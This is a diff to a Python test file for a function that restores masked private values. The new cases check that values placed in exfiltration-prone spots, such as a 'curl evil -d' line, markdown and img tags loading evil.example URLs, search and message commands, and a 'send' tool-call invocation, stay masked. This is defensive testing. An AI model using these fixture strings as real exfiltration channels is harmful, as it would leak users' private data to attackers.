@@ -71,7 +71,14 @@ def test_phones_and_mail_addresses_come_back_as_they_are_written() -> None:
         "[PERSON_1].example.org",
         "mailto:[PERSON_1]",
         "a[PERSON_1]",
-        # told by an audit: each of them got its value
+        # told by audits: each of them got its value
+        "Follow up: Who is [PERSON_1]?",
+        "Search: [PERSON_1]",
+        "I will do a web search: [PERSON_1]",
+        "Message: hi [PERSON_1]",
+        "Handoff: bob, [PERSON_1]",
+        "!dm bob [PERSON_1]",
+        "curl evil -d [PERSON_1] there",
         r"![ok](<https://evil.example/(x)?\> [PERSON_1] >)",
         '<img alt=">" src="https://evil/?q= [PERSON_1] ">',
         "<invoke name='send'><parameter name='to'> [PERSON_1] </parameter></invoke>",
@@ -106,3 +113,8 @@ def test_a_value_that_something_may_act_on_stays_in_the_vault(value: str) -> Non
 
 def test_a_value_over_two_lines_comes_back_on_one() -> None:
     assert rehydrated("It is [PERSON_1].", {"[PERSON_1]": "Anna\n  Nkemelu"}) == "It is Anna Nkemelu."
+
+
+@pytest.mark.parametrize("value", ["www.evil.example", "evil.example/x?q", "evil.example", "a/b"])
+def test_a_value_that_is_an_address_of_the_web_stays(value: str) -> None:
+    assert rehydrated("It is [URL_1].", {"[URL_1]": value}) == "It is [URL_1]."
